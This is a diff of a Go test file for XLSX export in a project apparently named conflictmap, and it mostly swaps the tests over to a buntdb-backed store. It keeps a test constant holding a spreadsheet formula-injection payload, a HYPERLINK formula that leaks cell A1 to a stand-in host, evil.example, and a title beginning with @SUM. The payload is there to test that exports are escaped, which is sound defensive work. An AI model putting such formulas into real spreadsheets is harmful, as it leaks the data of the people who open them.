@@ -15,13 +15,15 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"conflictmap/layers"
+	"conflictmap/layers/store"
+	"conflictmap/layers/store/buntdb"
 )
 
 // hostileQuote is a source sentence that a spreadsheet would run as a formula.
 const hostileQuote = `=HYPERLINK("http://evil.example/?leak="&A1,"Shusha")`
 
 // xlsxStore is the seeded store plus an article whose quote and title start with = and @.
-func xlsxStore(t *testing.T) (*layers.Store, http.Handler) {
+func xlsxStore(t *testing.T) (*buntdb.Store, http.Handler) {
 	t.Helper()
 	st, h := seeded(t)
 	res := &layers.Result{Article: layers.Article{ID: "hostile1", Title: "@SUM(1+1) report", Published: "2021-05-02",
@@ -284,7 +286,7 @@ func TestXLSXLargeStreams(t *testing.T) {
 	}
 	dir := t.TempDir()
 	out := &spyWriter{dir: dir}
-	if err := writeXLSX(context.Background(), out, layers.NewCursor(hits, n), "events", dir); err != nil {
+	if err := writeXLSX(context.Background(), out, store.Hits(hits, n), "events", dir); err != nil {
 		t.Fatal(err)
 	}
 	if out.tmpBytes < 16<<20 {
